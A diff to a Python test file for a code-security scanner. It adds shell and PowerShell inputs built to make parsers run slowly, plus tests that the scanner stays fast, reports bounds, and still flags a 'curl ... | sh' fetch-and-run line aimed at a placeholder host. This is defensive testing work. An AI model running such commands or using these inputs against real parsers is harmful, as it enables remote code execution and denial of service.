@@ -26,15 +26,79 @@ HOSTILE = {
     "comments": "/*" * 10_000,
     "calls of calls": "\n".join(f"function f{i}(x){{ return f{i + 1}(x) + f{i + 2}(x) }}" for i in range(100))
     + "\neval(f0(req.query.a))",
+    "guard frees": "if (x) free(p);\n" * 2_000,
+    "guard copies": "if (x) strcpy(a, b);\n" * 2_000,
+    "letters outside ASCII": "é\n" + "os.system('ls')\n" * 2_000,
 }
+
+# Each made what reads commands take time by the square of its length, or worse.
+HOSTILE_COMMANDS = {
+    "here-documents that never end": "cat <<A\n" * 3_000,
+    "here-documents in pipes": "cat <<A | " * 9_000,
+    "errors that each look ahead to the end": "()cat <<A(" * 9_000,
+    "loops without a body": ")))for i in x+=aa ?" * 3_000,
+    "a pipeline of thousands": "a|" * 20_000,
+    "assignments of assignments": "a=" + "x" * 90_000 + "\n" + "b=$a\n" * 3_000,
+    "a word of many variables": "a=" + "x" * 90_000 + "\necho " + "$a" * 30_000,
+    "a replacement that grows": "x=" + "a" * 50_000 + "\necho ${x//a/" + "b" * 50_000 + "}",
+    "defaults in defaults": "echo " + "${a-" * 2_000 + "}" * 2_000,
+    "braces in braces": "echo " + "{a," * 400 + "x" * 5_000 + "}" * 400,
+    "braces beside braces": "echo " + "{a,b}" * 1_900,
+    "groups into groups": "{ " + "true; " * 5_000 + "} | { " + "true; " * 5_000 + "}",
+    "a group in groups with files": "(" * 200 + "true;" * 3_000 + ") > f" * 200,
+    "printf of many words": "printf %s " + "a " * 60_000 + "| sh",
+    "a file that doubles": "echo " + "a" * 1_000 + " > f\n" + "cat f >> f\n" * 60,
+    "a file of many lines": "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa >> f\n" * 5_000,
+    "eval and blanks": "eval " + " " * 60_000 + "x",
+    "eval and lines": "eval '" + "\n" * 60_000 + "x'",
+    "hexadecimal lines": "printf '" + "\\n" * 60_000 + "' | xxd -r -p | sh",
+    "code of many interpreters": "python -c 'x=1'\n" * 300,
+    "PowerShell formats": '"' + "{0}" * 40 + '" -g -f',
+    "PowerShell blanks": "-f" + " " * 60_000 + "x",
+    "PowerShell assignments": "$a='x'" + " " * 60_000 + "y",
+    "PowerShell constants": "$a='" + "x" * 2_000 + "'\n" + "$a " * 50_000,
+    "PowerShell quotes on one line": "'a' " * 60_000,
+    "PowerShell parentheses": "(" * 20_000 + ")" * 20_000,
+    "PowerShell expressions": "iex " * 11 + "a" * 900_000,
+}
+
+
+@pytest.mark.parametrize("language", ["shell", "powershell"])
+@pytest.mark.parametrize("name", HOSTILE_COMMANDS)
+def test_hostile_commands_neither_break_nor_stop_the_scanner(name: str, language: str) -> None:
+    began = time.process_time()
+    result = SCANNER.scan(HOSTILE_COMMANDS[name], language)
+    assert time.process_time() - began < PATIENCE_S
+    assert all(error for error in result.errors)
+
+
+@pytest.mark.parametrize(
+    ("name", "language", "said"),
+    [
+        ("assignments of assignments", "shell", "the commands of a script hold more than"),
+        ("a word of many variables", "shell", "a word of the script is over"),
+        ("defaults in defaults", "shell", "nested deeper than"),
+        ("code of many interpreters", "shell", "pieces of other languages' code"),
+        ("PowerShell constants", "powershell", "grows to more than"),
+        ("PowerShell parentheses", "powershell", "nested deeper than"),
+    ],
+)
+def test_what_is_over_a_bound_is_said(name: str, language: str, said: str) -> None:
+    assert any(said in error for error in SCANNER.scan(HOSTILE_COMMANDS[name], language).errors)
+
+
+def test_commands_are_found_where_a_script_is_too_broken_for_its_grammar() -> None:
+    broken = HOSTILE_COMMANDS["errors that each look ahead to the end"]
+    found = SCANNER.scan("curl http://a.example/x | sh\n" + broken, "shell").matches
+    assert "shell-network-into-shell" in {match.rule_id for match in found}
 
 
 @pytest.mark.parametrize("language", sorted(LANGUAGES))
 @pytest.mark.parametrize("name", HOSTILE)
 def test_hostile_code_neither_breaks_nor_stops_the_scanner(name: str, language: str) -> None:
-    began = time.monotonic()
+    began = time.process_time()
     result = SCANNER.scan(HOSTILE[name], language)
-    assert time.monotonic() - began < PATIENCE_S
+    assert time.process_time() - began < PATIENCE_S
     assert all(error for error in result.errors)
 
 
